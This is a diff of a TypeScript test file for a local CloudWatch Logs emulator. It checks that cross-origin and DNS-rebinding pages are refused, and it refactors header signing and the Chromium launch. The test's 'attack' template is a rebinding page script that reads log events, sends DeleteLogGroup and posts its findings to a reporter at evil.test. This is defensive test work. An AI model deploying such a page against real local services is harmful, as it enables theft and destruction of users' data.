@@ -6,7 +6,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { start } from '@awslogs/local';
 import test, { type ExecutionContext } from 'ava';
-import { bench, exchange, NOW } from './support.js';
+import { bench, exchange, NOW, signedHeaders } from './support.js';
 
 const DELETE = JSON.stringify({ logGroupName: 'g' });
 const CONTROL = [
@@ -20,7 +20,7 @@ const CONTROL = [
 for (const [what, headers] of [
   ['a page of another site', { origin: 'http://evil.test' }],
   ['a page without a site, as in a sandboxed frame', { origin: 'null' }],
-  ['a page whose name was led here', { origin: 'http://evil.test:4586', host: 'evil.test:4586' }],
+  ['a page whose name resolves to this machine', { origin: 'http://evil.test:4586', host: 'evil.test:4586' }],
   ['a form, as Firefox sends it', { origin: 'http://evil.test', 'sec-fetch-mode': 'navigate' }],
   [
     'an image or a script',
@@ -35,7 +35,7 @@ for (const [what, headers] of [
     { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-user': '?1' },
   ],
 ] as const) {
-  test(`${what} is answered nothing, wherever it asks`, async (t) => {
+  test(`${what} is refused on every path`, async (t) => {
     const made = await bench(t);
     await made.put();
     const before = made.local.requests.length;
@@ -51,7 +51,7 @@ for (const [what, headers] of [
 }
 
 for (const [what, headers] of [
-  ['an SDK in a container, by the name of the service', { host: 'cloudwatch:4586' }],
+  ['an SDK in another container, which uses the name of the service,', { host: 'cloudwatch:4586' }],
   ["Node's own fetch", { 'sec-fetch-mode': 'cors', 'accept-language': '*', 'user-agent': 'node' }],
 ] as const) {
   test(`${what} is answered`, async (t) => {
@@ -65,15 +65,10 @@ test("Node's own fetch reads what there is to control", async (t) => {
   t.is((await fetch(`${local.endpoint}/_awslogs/requests`)).status, 200);
 });
 
-/** What a page does that has its name lead here: it reads, writes and deletes, and reports how it went. */
+/** A page whose name resolves to this machine reads, writes and deletes, and reports the results. */
 const attack = (reporter: string, port: number) => `<script type="module">
   const report = (what) => fetch('${reporter}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
-  const headers = {
-    'content-type': 'application/x-amz-json-1.1',
-    'x-amz-target': 'Logs_20140328.DeleteLogGroup',
-    'x-amz-date': '20261124T120000Z',
-    authorization: 'AWS4-HMAC-SHA256 Credential=local/20261124/us-east-1/logs/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}',
-  };
+  const headers = ${JSON.stringify(signedHeaders('DeleteLogGroup'))};
   await report('loaded');
   for (;;) {
     const answer = await fetch('/_awslogs/events?logGroupName=g').catch(() => undefined);
@@ -98,18 +93,18 @@ async function listen(t: ExecutionContext, server: Server): Promise<number> {
   return address.port;
 }
 
-/** Chromium with an empty profile, for which evil.test is this machine, and no other name leads anywhere. */
+/** Chromium with an empty profile, in which evil.test resolves to this machine and no other name resolves. */
 async function browse(
   t: ExecutionContext,
   url: string,
-): Promise<{ readonly ended: Promise<string> } | undefined> {
+): Promise<{ readonly ended: Promise<unknown> } | undefined> {
   const profile = await mkdtemp(join(tmpdir(), 'awslogs-chromium-'));
   const rules = 'MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1';
   const args = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run'];
   args.push('--disable-background-networking', '--disable-component-update', '--disable-sync');
   args.push(`--host-resolver-rules=${rules}`, `--user-data-dir=${profile}`, '--remote-debugging-port=0', url);
   // A group of its own, all of which is ended.
-  const child = spawn('chromium', args, { stdio: ['ignore', 'ignore', 'pipe'], detached: true });
+  const child = spawn('chromium', args, { stdio: 'ignore', detached: true });
   const started = await Promise.race([
     once(child, 'spawn').then(() => true),
     once(child, 'error').then(() => false),
@@ -118,29 +113,25 @@ async function browse(
     await rm(profile, { recursive: true });
     return undefined;
   }
-  let words = '';
-  child.stderr.on('data', (chunk: Buffer) => {
-    words += chunk;
-  });
-  const closed = once(child, 'close').then(() => words);
+  const ended = once(child, 'close');
   t.teardown(async () => {
     if (child.pid !== undefined && child.exitCode === null) process.kill(-child.pid, 'SIGKILL');
-    await closed;
+    await ended;
     await rm(profile, { recursive: true, force: true, maxRetries: 10 });
   });
-  return { ended: closed };
+  return { ended };
 }
 
-test('a page in Chromium that has its name lead here neither reads nor writes', async (t) => {
+test('a page in Chromium whose name resolves to this machine neither reads nor writes', async (t) => {
   t.timeout(120_000, 'Chromium did not say what the page saw');
   const reports: unknown[] = [];
-  let isReported = (): void => undefined;
+  let onReport = (): unknown => undefined;
   const reporter = createServer(async (request, response) => {
     let text = '';
     for await (const chunk of request.setEncoding('utf8')) text += chunk;
     response.end();
     reports.push(JSON.parse(text));
-    isReported();
+    onReport();
   });
   const to = `http://evil.test:${await listen(t, reporter)}/`;
   let port = 0;
@@ -148,40 +139,31 @@ test('a page in Chromium that has its name lead here neither reads nor writes', 
     response.setHeader('content-type', 'text/html').end(attack(to, port)),
   );
   port = await listen(t, attacker);
-  const nextReport = (count: number, ended: Promise<string>) =>
-    new Promise<void>((resolve, reject) => {
-      isReported = () => {
-        if (reports.length >= count) resolve();
-      };
-      isReported();
-      void ended.then((words) => reject(new Error(`Chromium ended: ${words}`)));
-    });
   const browser = await browse(t, `http://evil.test:${port}/`);
-  if (browser === undefined) {
-    t.log('There is no chromium here: what it sends is tried above.');
+  /** False when Chromium ended before the page had made so many reports. */
+  const isReported = (count: number) =>
+    new Promise<boolean>((resolve) => {
+      onReport = () => reports.length >= count && resolve(true);
+      onReport();
+      void browser?.ended.then(() => resolve(false));
+    });
+  if (!browser || !(await isReported(1))) {
+    t.log('No chromium runs here. What it sends is tried in the tests above.');
     t.pass();
     return;
   }
-  await nextReport(1, browser.ended);
-  // The name leads elsewhere: what was the attacker's server is now the service.
+  // The same name and port now lead to the service, as after a change in the DNS.
   attacker.closeAllConnections();
   await new Promise((resolve) => attacker.close(resolve));
   const local = await start({ port, now: () => NOW, signingClock: () => NOW });
   t.teardown(() => local.close());
-  const sdk = await exchangeAs(local.port, 'CreateLogGroup', { logGroupName: 'g' });
-  t.is(sdk, 200);
-  await nextReport(2, browser.ended);
+  t.is(await request(local.port, 'CreateLogGroup', { logGroupName: 'g' }), 200);
+  t.true(await isReported(2));
   t.deepEqual(reports, ['loaded', { read: '403 false', write: 403, faults: 403 }]);
-  t.is(await exchangeAs(local.port, 'CreateLogStream', { logGroupName: 'g', logStreamName: 's' }), 200);
+  t.is(await request(local.port, 'CreateLogStream', { logGroupName: 'g', logStreamName: 's' }), 200);
 });
 
-/** As an SDK would. */
-async function exchangeAs(port: number, operation: string, input: object): Promise<number> {
-  const headers = {
-    'content-type': 'application/x-amz-json-1.1',
-    'x-amz-target': `Logs_20140328.${operation}`,
-    'x-amz-date': '20261124T120000Z',
-    authorization: `AWS4-HMAC-SHA256 Credential=local/20261124/us-east-1/logs/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}`,
-  };
-  return (await exchange(port, 'POST', '/', headers, JSON.stringify(input))).status;
+/** The status of a request as an SDK sends it. */
+async function request(port: number, operation: string, input: object): Promise<number> {
+  return (await exchange(port, 'POST', '/', signedHeaders(operation), JSON.stringify(input))).status;
 }
